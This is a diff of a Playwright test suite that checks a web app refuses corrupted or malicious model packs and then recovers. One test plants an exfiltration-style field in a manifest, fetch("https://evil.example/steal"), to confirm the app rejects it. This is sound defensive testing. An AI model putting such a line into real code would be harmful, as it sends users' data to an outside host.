@@ -5,8 +5,8 @@
  */
 import { createHash } from 'node:crypto';
 import { readFileSync } from 'node:fs';
-import type { Page, Route } from '@playwright/test';
-import { expect, test } from './fixtures';
+import { expect, test, type Page, type Request, type Route } from '@playwright/test';
+import { watchPageProblems } from './fixtures';
 import { TEST_PACK, testPackGraphs, waitForPack } from './helpers';
 import { expectIntact, expectNextJobRuns, snapshot } from './reliability-helpers';
 
@@ -52,24 +52,54 @@ async function expectRefusedThenRecover(page: Page, message: RegExp): Promise<vo
   await expectNextJobRuns(page);
 }
 
+// One page for the file, each test starting from a fresh navigation with its own routes and an
+// emptied pack cache: a new context per test costs more than the test itself on a 2-core
+// machine. Its own guard against uncaught errors and CSP violations, as e2e/fixtures.ts gives
+// every other page.
+test.describe.configure({ mode: 'serial' });
+let page: Page;
+const problems: string[] = [];
+test.beforeAll(async ({ browser }) => {
+  page = await browser.newPage();
+  watchPageProblems(page, problems);
+});
+test.afterEach(() => {
+  expect(problems, 'page errors and CSP violations').toEqual([]);
+});
+test.afterAll(async () => {
+  await page.close();
+});
+
+/** Counts the graph (.onnx) requests from now until `stop()`. */
+function countGraphRequestsFrom(target: Page): { names: string[]; stop: () => void } {
+  const names: string[] = [];
+  const listener = (r: Request) => {
+    const path = new URL(r.url()).pathname;
+    if (path.endsWith('.onnx')) names.push(path.split('/').pop()!);
+  };
+  target.on('request', listener);
+  return { names, stop: () => target.off('request', listener) };
+}
+
 test.describe('packs', () => {
-  test.beforeEach(async ({ page }) => {
-    // A clean cache: a cached good copy must not hide the bad file.
-    await page.goto(`/models/${TEST_PACK}/pack.json`); // any page of the origin
+  test.beforeEach(async () => {
+    // A clean cache: a cached good copy (from the test before) must not hide the bad file.
+    await page.unrouteAll({ behavior: 'ignoreErrors' });
+    await page.goto(`/models/${TEST_PACK}/pack.json`); // any page of the origin, no worker running
     await page.evaluate(() => caches.delete('realcustom-packs-v1'));
   });
 
-  test('a missing file', async ({ page }) => {
+  test('a missing file', async () => {
     await serveGraph(page, (route) => route.fulfill({ status: 404, body: 'not found' }));
     await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTTP 404`));
   });
 
-  test('a wrong hash in the manifest', async ({ page }) => {
+  test('a wrong hash in the manifest', async () => {
     await editManifest(page, (m) => (graphOf(m, victim.file).sha256 = '0'.repeat(64)));
     await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*sha256`));
   });
 
-  test('a manifest with wrong shapes and unknown fields', async ({ page }) => {
+  test('a manifest with wrong shapes and unknown fields', async () => {
     await editManifest(page, (m) => {
       (m.latent as { shape: number[] }).shape = [12, 16];
       m.onLoad = 'fetch("https://evil.example/steal")';
@@ -77,7 +107,7 @@ test.describe('packs', () => {
     await expectRefusedThenRecover(page, /pack\.json.*does not follow the pack contract/);
   });
 
-  test('a truncated ONNX file whose manifest matches it', async ({ page }) => {
+  test('a truncated ONNX file whose manifest matches it', async () => {
     // The manifest describes the cut file (size, hash), so only ONNX parsing can tell.
     const half = readFileSync(`public/models/${TEST_PACK}/${victim.file}`).subarray(0, Math.floor(victim.bytes / 2));
     await serveGraph(page, async (route) => route.fulfill({ status: 200, body: half }));
@@ -87,28 +117,28 @@ test.describe('packs', () => {
     await expectRefusedThenRecover(page, new RegExp(victim.file));
   });
 
-  test('an HTML page served where a model was expected', async ({ page }) => {
+  test('an HTML page served where a model was expected', async () => {
     await serveGraph(page, (route) =>
       route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><html><body>App</body></html>' }),
     );
     await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTML`, 'i'));
   });
 
-  test('a pack far larger than the device allows is refused before any download', async ({ page }) => {
-    let graphRequests = 0;
-    page.on('request', (r) => void (new URL(r.url()).pathname.endsWith('.onnx') && graphRequests++));
+  test('a pack far larger than the device allows is refused before any download', async () => {
+    const graphRequests = countGraphRequestsFrom(page);
     await editManifest(page, (m) => (graphOf(m, victim.file).bytes = 1.9 * 1024 ** 3));
     await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
     await expect(page.getByTestId('pack-status')).toHaveAttribute('data-status', 'error', { timeout: 120_000 });
     await expect(page.getByTestId('status-banner')).toContainText(/GB|MB|memory|limit/i);
-    expect(graphRequests, 'no graph downloaded').toBe(0);
+    graphRequests.stop();
+    expect(graphRequests.names, 'no graph downloaded').toEqual([]);
     await page.unrouteAll({ behavior: 'ignoreErrors' });
     await page.getByTestId('status-banner').getByRole('button', { name: 'Retry' }).click();
     await waitForPack(page);
     await expectNextJobRuns(page);
   });
 
-  test('a stale cache entry is detected by its hash and fetched again', async ({ page }) => {
+  test('a stale cache entry is detected by its hash and fetched again', async () => {
     await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
     await waitForPack(page);
     // Damage the cached copy of one graph, as a write cut short or an old entry would.
@@ -123,11 +153,11 @@ test.describe('packs', () => {
       return key;
     }, victim.sha256);
 
-    const refetched: string[] = [];
-    page.on('request', (r) => void (new URL(r.url()).pathname.endsWith('.onnx') && refetched.push(r.url())));
+    const refetched = countGraphRequestsFrom(page);
     await page.reload();
     await waitForPack(page);
-    expect(refetched.map((u) => new URL(u).pathname.split('/').pop())).toEqual([victim.file]);
+    refetched.stop();
+    expect(refetched.names).toEqual([victim.file]);
     const healed = await page.evaluate(async (k) => {
       const res = await (await caches.open('realcustom-packs-v1')).match(k);
       const digest = await crypto.subtle.digest('SHA-256', await res!.arrayBuffer());
